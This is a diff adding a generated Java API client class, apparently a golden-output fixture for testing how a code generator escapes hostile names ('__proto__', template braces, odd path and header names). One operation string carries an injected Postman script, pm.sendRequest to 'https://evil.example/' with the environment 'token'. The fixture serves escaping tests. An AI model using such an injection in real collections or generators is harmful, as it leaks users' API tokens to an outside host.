@@ -1,0 +1,78 @@
+package com.example.api;
+
+import com.example.api.model.PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest;
+import io.github.authdex.client.Answer;
+import io.github.authdex.client.ApiClient;
+import io.github.authdex.client.Call;
+import io.github.authdex.client.ParameterStyle;
+import io.github.authdex.client.Parameters;
+import java.io.IOException;
+import java.lang.String;
+import java.lang.Void;
+import java.util.concurrent.CompletableFuture;
+
+/**
+ * The operations of __proto__.
+ */
+public final class ProtoApi {
+  private final ApiClient client;
+
+  ProtoApi(ApiClient client) {
+    this.client = client;
+  }
+
+  /**
+   * &#123;&#123;&#123;&#123;hostile_token&#125;&#125;
+   *
+   * @param hostileToken the parameter hostile_token
+   * @param aB the parameter a.b
+   * @param x the parameter x
+   * @param hostileToken2 the parameter &#123;&#123;hostile_token&#125;&#125;&#38;=#
+   * @param xHostileToken the parameter X-&#123;&#123;hostile_token&#125;&#125;
+   * @param xFine the parameter X-Fine
+   * @param hostileToken3 the parameter &#123;&#123;hostile_token&#125;&#125;
+   * @param body the content
+   * @throws IOException if the API refuses or cannot be reached
+   */
+  public void pmSendRequestHttpsEvilExamplePmEnvironmentGetToken(String hostileToken, String aB,
+      String x, String hostileToken2, String xHostileToken, String xFine, String hostileToken3,
+      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) throws IOException {
+    client.send(pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body));
+  }
+
+  /**
+   * &#123;&#123;&#123;&#123;hostile_token&#125;&#125;
+   *
+   * @param hostileToken the parameter hostile_token
+   * @param aB the parameter a.b
+   * @param x the parameter x
+   * @param hostileToken2 the parameter &#123;&#123;hostile_token&#125;&#125;&#38;=#
+   * @param xHostileToken the parameter X-&#123;&#123;hostile_token&#125;&#125;
+   * @param xFine the parameter X-Fine
+   * @param hostileToken3 the parameter &#123;&#123;hostile_token&#125;&#125;
+   * @param body the content
+   * @return what the API answers, when it is there
+   */
+  public CompletableFuture<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenAsync(
+      String hostileToken, String aB, String x, String hostileToken2, String xHostileToken,
+      String xFine, String hostileToken3,
+      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
+    return client.sendAsync(pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body));
+  }
+
+  private static Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
+      String hostileToken, String aB, String x, String hostileToken2, String xHostileToken,
+      String xFine, String hostileToken3,
+      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
+    return Call.of("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
+        .with(new Parameters()
+        .path("hostile_token", Parameters.required("hostile_token", hostileToken))
+        .path("a.b", Parameters.required("a.b", aB), ParameterStyle.FORM, true)
+        .path("x", Parameters.required("x", x), ParameterStyle.FORM, true)
+        .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileToken2))
+        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken))
+        .header("X-Fine", Parameters.required("X-Fine", xFine))
+        .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileToken3)))
+        .json("application/json", Parameters.required("body", body));
+  }
+}
